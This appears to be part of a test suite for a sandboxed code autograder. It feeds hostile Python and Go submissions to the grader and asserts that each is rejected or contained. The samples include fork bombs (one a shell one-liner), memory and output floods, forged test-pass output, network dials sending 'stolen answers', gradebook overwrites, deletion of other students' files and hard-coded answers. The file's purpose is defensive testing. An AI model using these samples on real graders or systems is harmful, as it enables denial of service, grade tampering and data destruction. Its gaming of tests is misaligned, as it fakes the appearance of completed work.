            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the private attribute "_qsize" of a Queue object'},
        ),
    ),
]


PYTHON_LIMITS = [
    Case(
        "py-infinite-loop",
        POOL,
        "python",
        PY_POOL + "\nwhile True:\n    pass\n",
        "spin forever while the answer is imported: the CPU limit (or, on a busy machine, the wall clock) stops it",
        passed=NONE,
        points=0,
        bystander=True,
        limits={"wall_seconds": 5},
        messages={
            "test_results_in_order": (
                "used up its CPU time",
                "timed out: the run was stopped after 5s",
                "map_limited did not return within 5.0s",  # the test's own wait: first in a batch
            )
        },
    ),
    Case(
        "py-output-flood-forever",
        POOL,
        "python",
        "def map_limited(fn, items, limit):\n    while True:\n        print('x' * 10000)\n",
        "print forever inside the function under test: nothing piles up in memory, the CPU limit "
        "(or the wall clock) stops it, and the feedback says the output limit was passed",
        passed=NONE,
        points=0,
        limits={"wall_seconds": 5},
        notes=(OUTPUT_NOTE,),
        messages={
            "test_results_in_order": (
                "used up its CPU time",
                "timed out: the run was stopped after 5s",
                "map_limited did not return within 5.0s",  # the test's own wait: first in a batch
            )
        },
    ),
    Case(
        "py-sleep-past-the-limit",
        POOL,
        "python",
        "import time\ntime.sleep(3600)\n" + PY_POOL,
        "sleep for an hour while the answer is imported: the wall-clock limit stops it",
        passed=NONE,
        points=0,
        limits={"wall_seconds": 3},
        messages={
            "test_results_in_order": "timed out: the run was stopped after 3s",
            "test_runs_limit_calls_at_once": "did not run: the run was stopped after 3s",
        },
        max_seconds=12,
    ),
    Case(
        "py-fork-bomb",
        POOL,
        "python",
        "import os\nwhile True:\n    os.fork()\n" + PY_POOL,
        "fork until the machine falls over",
        rejected=("import of 'os' is not allowed here",),
        # the restricted loader refuses the import before the audit hook sees a fork
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_results_in_order": "importing os is not allowed here"},
        ),
    ),
    Case(
        "py-fork-bomb-unguarded",
        POOL,
        "python",
        """
import os
import time

try:
    while True:
        if os.fork() == 0:
            time.sleep(3600)
except OSError:
    pass
"""
        + PY_POOL,
        "a real fork bomb: the process limit stops it (its own threads too), the pid namespace ends it",
        rejected=("import of 'os' is not allowed here",),
        deep=Deep(_NOTHING_IN_PROCESS, NONE, 0),
        bystander=True,
        max_seconds=30,
    ),
]

# --- Go --------------------------------------------------------------------------------------

GO = [
    Case(
        "go-error-that-is-every-error",
        POOL,
        "go",
        GO_POOL.replace(
            "\tif firstErr != nil {\n\t\treturn nil, firstErr\n\t}",
            "\tif firstErr != nil {\n\t\treturn nil, anyError{}\n\t}",
        ).replace(
            '\tif err := ctx.Err(); err != nil {\n\t\treturn nil, fmt.Errorf("MapLimited: %w", err)',
            "\tif err := ctx.Err(); err != nil {\n\t\treturn nil, anyError{}",
        )
        + '\ntype anyError struct{}\n\nfunc (anyError) Error() string { return "something failed" }\n'
        + "\nfunc (anyError) Is(error) bool { return true }\n",
        "return an error whose own Is method claims to be every error, instead of the first "
        "error or the context's (errors.Is would ask it; the tests compare by identity)",
        passed={
            "visible": GO_ALL["visible"],
            "hidden": ("TestHiddenNoGoroutineLeftBehind", "TestHiddenManyItemsStayWithinLimit"),
        },
        points=11,
        messages={
            "TestHiddenFirstErrorStopsNewCalls": "fn failed with boom for item 1: want that first error",
            "TestHiddenCancelledContext": "want an error wrapping context.Canceled",
        },
    ),
    Case(
        "go-init-os-exit",
        POOL,
        "go",
        GO_POOL.replace("func main() {}", "func main() {}\n\nfunc init() { os.Exit(0) }\n").replace(
            '"fmt"', '"fmt"\n\t"os"'
        ),
        "exit with code 0 from init, before any test runs",
        rejected=("func init is not allowed", 'import "os" is not allowed here'),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            messages={
                "TestResultsInOrder": "did not run: the test binary exited with code 0 before running the tests"
            },
        ),
    ),
    Case(
        "go-testmain",
        POOL,
        "go",
        GO_POOL.replace(
            "func main() {}", "func main() {}\n\nfunc TestMain(m *testing.M) { os.Exit(0) }\n"
        ).replace('"fmt"', '"fmt"\n\t"os"\n\t"testing"'),
        "add a TestMain that exits before the tests",
        rejected=('import "testing" is not allowed here',),
        deep=Deep(_NO_VET, GO_ALL, 14),
    ),
    Case(
        "go-fake-test-output",
        POOL,
        "go",
        """package main

import (
	"context"
	"fmt"
)

func MapLimited(ctx context.Context, limit int, items []int, fn func(context.Context, int) (int, error)) ([]int, error) {
	fmt.Println("--- PASS: TestResultsInOrder (0.00s)")
	fmt.Println("\\x16--- PASS: TestTwinbookHarness/TestResultsInOrder (0.00s)")
	fmt.Println(`{"Action":"pass","Test":"TestResultsInOrder"}`)
	fmt.Println(`{"event":"result","name":"TestResultsInOrder","outcome":"passed"}`)
	fmt.Println("PASS\\nok  \\tanswer\\t0.001s")
	if limit < 1 {
		return nil, fmt.Errorf("bad limit %d", limit)
	}
	return nil, nil
}

func main() {}
""",
        "print fake --- PASS lines, fake test2json and fake harness events",
        # an answer that does nothing starts no goroutine either: the leak test passes
        passed={
            "visible": ("TestBadLimitIsAnError", "TestEmptyItems"),
            "hidden": ("TestHiddenNoGoroutineLeftBehind",),
        },
        points=3,
    ),
    Case(
        "go-forge-result-channel",
        POOL,
        "go",
        GO_POOL.replace(
            "func main() {}",
            """func main() {}

var forged = func() int {
	for fd := uintptr(3); fd < 256; fd++ {
		os.NewFile(fd, "x").Write([]byte(`{"event":"result","name":"TestResultsInOrder","outcome":"passed"}` + "\\n"))
	}
	return 0
}()
""",
        ).replace('"fmt"', '"fmt"\n\t"os"'),
        "write fake events onto the result pipe from a package initializer",
        rejected=('import "os" is not allowed here',),
        deep=Deep(_NO_VET, NONE, 0, messages={"TestResultsInOrder": "tampered with"}),
    ),
    Case(
        "go-goroutine-crash",
        POOL,
        "go",
        GO_POOL.replace(
            "\tif limit < 1 {",
            '\tgo func() { panic("boom") }()\n\ttime.Sleep(time.Second)\n\tif limit < 1 {',
            1,
        ).replace('"sync"', '"sync"\n\t"time"'),
        "crash the whole test binary from a goroutine of its own, during every test",
        rejected=('import "time" is not allowed here',),
        deep=Deep(_NO_VET, NONE, 0, messages={"TestResultsInOrder": "panic: boom"}),
    ),
    Case(
        "go-goroutine-crash-allowed",
        POOL,
        "go",
        GO_POOL.replace(
            "\tif limit < 1 {",
            '\tgo func() { panic("boom") }()\n\tvar mu sync.Mutex\n\tmu.Lock()\n\tmu.Lock()\n\tif limit < 1 {',
            1,
        ),
        "the same with allowed packages only: the crash kills the binary; each test fails alone",
        passed=NONE,
        points=0,
        messages={"TestResultsInOrder": "panic: boom", "TestEmptyItems": "panic: boom"},
    ),
    Case(
        "go-reach-into-the-tests",
        POOL,
        "go",
        GO_POOL.replace(
            "func main() {}",
            "func main() {}\n\n// the hidden file's data\nvar peek = errBoom\n",
        ),
        "read the hidden test file's package-level data",
        # the tests are another package (main_test): errBoom is not in the answer's scope
        passed=NONE,
        points=0,
        messages={
            "TestResultsInOrder": "undefined: errBoom",
            "TestHiddenCancelledContext": "undefined: errBoom",
        },
    ),
    Case(
        "go-linkname",
        POOL,
        "go",
        GO_POOL.replace(
            "func main() {}",
            "func main() {}\n\n//go:linkname nanotime runtime.nanotime\nfunc nanotime() int64\n",
        ).replace('"fmt"', '"fmt"\n\t_ "unsafe"'),
        "pull a runtime internal in with //go:linkname",
        rejected=(
            "compiler directive //go:linkname is not allowed",
            'import "unsafe" is not allowed here',
        ),
    ),
    Case(
        "go-cgo",
        POOL,
        "go",
        GO_POOL.replace("import (", '// #include <stdlib.h>\nimport "C"\n\nimport ('),
        "call C through cgo",
        rejected=('cgo (import "C") is not allowed',),
    ),
    Case(
        "go-shadow-predeclared",
        POOL,
        "go",
        """package main

import (
	"context"
	"fmt"
	"sync"
)

// max replaces the builtin for the whole package: the tests' gauge would never see concurrency.
func max(a, b int) int { return 0 }

func MapLimited(ctx context.Context, limit int, items []int, fn func(context.Context, int) (int, error)) ([]int, error) {
	if limit < 1 {
		return nil, fmt.Errorf("bad limit %d", limit)
	}
	out := make([]int, len(items))
	var wg sync.WaitGroup
	for i, item := range items {
		wg.Go(func() { out[i], _ = fn(ctx, item) })
	}
	wg.Wait()
	return out, nil
}

func main() {}
""",
        "redefine the builtin max the instructor's tests use to measure concurrency",
        # the answer's max is its own package's: the tests' gauge keeps the builtin and
        # measures the missing limit (graded as the same answer without the max)
        passed={
            "visible": (
                "TestResultsInOrder",
                "TestRunsLimitCallsAtOnce",
                "TestBadLimitIsAnError",
                "TestEmptyItems",
            ),
            "hidden": ("TestHiddenNoGoroutineLeftBehind",),
        },
        points=7,
    ),
    Case(
        "go-unsafe-reflect",
        POOL,
        "go",
        GO_POOL.replace('"fmt"', '"fmt"\n\t"reflect"\n\t"unsafe"').replace(
            "func main() {}",
            "func main() {}\n\nvar _ = reflect.TypeOf(0)\nvar _ = unsafe.Sizeof(0)\n",
        ),
        "unsafe and reflect",
        rejected=('import "reflect" is not allowed here', 'import "unsafe" is not allowed here'),
    ),
    Case(
        "go-runtime",
        POOL,
        "go",
        GO_POOL.replace('"fmt"', '"fmt"\n\t"runtime"').replace(
            "func main() {}", "func main() {}\n\nvar _ = runtime.NumGoroutine()\n"
        ),
        "runtime (Goexit, GC hooks)",
        rejected=('import "runtime" is not allowed here',),
    ),
    Case(
        "go-embed-hidden-tests",
        POOL,
        "go",
        GO_POOL.replace('"fmt"', '"fmt"\n\t_ "embed"').replace(
            "func main() {}", "func main() {}\n\n//go:embed hidden_test.go\nvar hidden string\n"
        ),
        "compile the hidden tests into the binary with //go:embed",
        rejected=(
            "compiler directive //go:embed is not allowed",
            'import "embed" is not allowed here',
        ),
        # unvetted: the visible build has no hidden_test.go to embed; the hidden build may (its
        # messages never reach the student)
        deep=Deep(
            _NO_VET,
            {"visible": (), "hidden": GO_ALL["hidden"]},
            6,
            messages={"TestResultsInOrder": "pattern hidden_test.go: no matching files found"},
        ),
    ),
    Case(
        "go-memory-bomb",
        POOL,
        "go",
        GO_POOL.replace("func main() {}", "func main() {}\n\nvar blob = make([]byte, 8<<30)\n"),
        "allocate 8 GiB in a package initializer",
        passed=NONE,
        points=0,
        messages={"TestResultsInOrder": "fatal error: out of memory"},
        bystander=True,
    ),
    Case(
        "go-memory-touched",
        POOL,
        "go",
        GO_POOL.replace(
            "func main() {}",
            """func main() {}

var kept = func() [][]byte {
	var chunks [][]byte
	for range 128 {
		chunk := make([]byte, 64<<20)
		for i := 0; i < len(chunk); i += 4096 {
			chunk[i] = 1
		}
		chunks = append(chunks, chunk)
	}
	return chunks
}()
""",
        ),
        # the race runtime needs far more address space than memory, so a Go run's
        # RLIMIT_AS is loose (sandbox.RACE_ADDRESS_BASE): the cgroup must stop memory
        # actually used, and the note is the cgroup's (256 MiB x RACE_MEMORY). A small
        # limit and a roomy clock: touching pages takes seconds on a busy machine
        "touch 8 GiB, 64 MiB at a time, in a package initializer (under -race)",
        passed=NONE,
        points=0,
        messages={"TestResultsInOrder": "out of memory (the run passed its 768 MiB memory limit)"},
        limits={"memory_bytes": 256 << 20, "wall_seconds": 30},
        bystander=True,
    ),
    Case(
        "go-output-flood",
        POOL,
        "go",
        GO_POOL.replace(
            "func main() {}",
            """func main() {}

var _ = func() int {
	line := fmt.Sprintf("%0512d\\n", 0)
	for range 20000 {
		fmt.Print(line, line, line, line, line, line, line, line)
	}
	return 0
}()
""",
        ),
        "print 80 MB from a package initializer; the grader keeps 64 KiB",
        passed=GO_ALL,
        points=14,
        bystander=True,
        notes=(OUTPUT_NOTE,),
    ),
    Case(
        "go-network",
        POOL,
        "go",
        GO_POOL.replace('"fmt"', '"fmt"\n\t"net"\n\t"time"').replace(
            "func main() {}",
            """func main() {}

var _ = func() int {
	for _, addr := range []string{"127.0.0.1:@PORT@", "1.1.1.1:53"} {
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			c.Write([]byte("stolen answers"))
		}
	}
	return 0
}()
""",
        ),
        "dial the grader's machine and the internet",
        rejected=('import "net" is not allowed here',),
        deep=Deep(_NO_VET, GO_ALL, 14),
    ),
    Case(
        "go-files",
        POOL,
        "go",
        GO_POOL.replace('"fmt"', '"fmt"\n\t"os"').replace(
            "func main() {}",
            """func main() {}

var _ = func() int {
	for _, p := range []string{"@SOLUTIONS@/01-worker-pool/go/hidden_test.go", "@OTHER@", "@OUT@/gradebook.csv"} {
		if _, err := os.Stat(p); err == nil {
			panic("visible: " + p)
		}
	}
	os.WriteFile("@OUT@/gradebook.csv", []byte("mallory,100\\n"), 0o644)
	os.RemoveAll("@OTHER@")
	return 0
}()
""",
        ),
        "look for the hidden tests and other students' work, overwrite the gradebook",
        rejected=('import "os" is not allowed here',),
        deep=Deep(_NO_VET, GO_ALL, 14),
    ),
    Case(
        "go-hard-coded",
        LIMITER,
        "go",
        """package main

import "time"

var script = map[[2]float64]string{{1, 3}: "+++--", {2, 1}: "+--+-+-", {0.5, 1}: "+-+-", {10, 2}: "++++--"}

// Limiter replays the answers the visible tests expect, whatever the clock says.
type Limiter struct {
	script string
	calls  int
}

func NewLimiter(rate float64, burst int, now func() time.Time) *Limiter {
	return &Limiter{script: script[[2]float64{rate, float64(burst)}]}
}

func (l *Limiter) Allow() bool {
	i := l.calls
	l.calls++
	return i < len(l.script) && l.script[i] == '+'
}

func main() {}
""",
        "hard-code the visible tests' answers: the hidden tests catch it",
        passed={
            "visible": (
                "TestLimiterAllowsBurstAtOnce",
                "TestLimiterRefillsAtRate",
                "TestLimiterFractionalRate",
                "TestLimiterNeverMoreThanBurst",
            ),
            "hidden": ("TestHiddenZeroBurstNeverAllows",),
        },
        points=5,
    ),
    Case(
        "go-fork-bomb",
        POOL,
        "go",
        GO_POOL.replace('"fmt"', '"fmt"\n\t"os/exec"').replace(
            "func main() {}",
            'func main() {}\n\nvar _ = exec.Command("/bin/sh", "-c", ":(){ :|:& };:").Run()\n',
        ),
        "a shell fork bomb",
        rejected=('import "os/exec" is not allowed here',),
    ),
]

GO_LIMITS = [
    Case(
        "go-infinite-loop",
        POOL,
        "go",
        GO_POOL.replace("\tif limit < 1 {", "\tfor {\n\t}\n\tif limit < 1 {", 1),
        "spin forever inside the function under test: the test's own timeout or the CPU limit stops it",
        passed=NONE,
        points=0,
        bystander=True,
        limits={"wall_seconds": 5},
        messages={
            "TestResultsInOrder": (
                "used up its CPU time",
                "did not return within 5s",
                "test timed out",
            )
        },
    ),
]


# --- the check every case goes through ---------------------------------------------------------


def check_case(case: Case, grade, exercises, bystander, listener) -> None:
    """Grade ``case`` through the sandbox and assert its exact grade (see the module docstring)."""
    import dataclasses
    import time

    from twinbook.runner.vet import vet

    ex = exercises[case.exercise]
    limits = dataclasses.replace(LIMITS, **case.limits)
    source = case.render(Path("/nonexistent"), listener.port)
    if case.bystander:
        bystander.start(case.exercise, case.lang)
    started = time.monotonic()
    reasons = vet(ex, case.lang, source)
    results = grade(case, limits=limits, port=listener.port)
    elapsed = time.monotonic() - started
    if case.rejected:
        for want in case.rejected:
            assert any(want in r for r in reasons), f"no reason mentions {want!r}: {reasons}"
        for rs in results.values():
            assert rs and all(
                r.outcome == "failed" and r.message.startswith("rejected: ") for r in rs
            ), rs
        assert points_of(ex, case.lang, _passed(results)) == 0
    else:
        assert reasons == [], f"vetting rejected an answer it must accept: {reasons}"
        assert _passed(results) == case.passed, _show(results)
        assert points_of(ex, case.lang, _passed(results)) == case.points
        _check_messages(results, case.messages)
    assert _notes(results) == set(case.notes), _notes(results)
    if case.max_seconds is not None:
        assert elapsed <= case.max_seconds, f"took {elapsed:.1f}s, more than {case.max_seconds}s"
    for deep in case.deep if isinstance(case.deep, tuple) else filter(None, [case.deep]):
        results = grade(case, layers=deep.layers, limits=limits, port=listener.port)
        assert _passed(results) == deep.passed, _show(results)
        assert points_of(ex, case.lang, _passed(results)) == deep.points
        _check_messages(results, deep.messages)
        assert _notes(results) == set(deep.notes), _notes(results)
        if deep.outcomes is not None:
            assert {r.outcome for rs in results.values() for r in rs} == {deep.outcomes}, _show(
                results
            )
    assert listener.connections() == 0, "a submission reached the grader's network"
    if case.bystander:
        bystander.check()


def _notes(results) -> set[str]:
    return {note for rs in results.values() for note in rs.notes}


def _passed(results) -> dict[str, tuple[str, ...]]:
    return {suite: tuple(r.name for r in rs if r.passed) for suite, rs in results.items()}


def _show(results) -> str:
    return "\n".join(
        f"{s}: {r.name} {r.outcome}: {r.message[:300]}" for s, rs in results.items() for r in rs
    )


def _check_messages(results, messages: dict[str, str]) -> None:
    by_name = {r.name: r for rs in results.values() for r in rs}
    for name, want in messages.items():
        options = want if isinstance(want, tuple) else (want,)
        assert any(w in by_name[name].message for w in options), (
            f"{name}: {by_name[name].message!r} lacks {want!r}"
        )
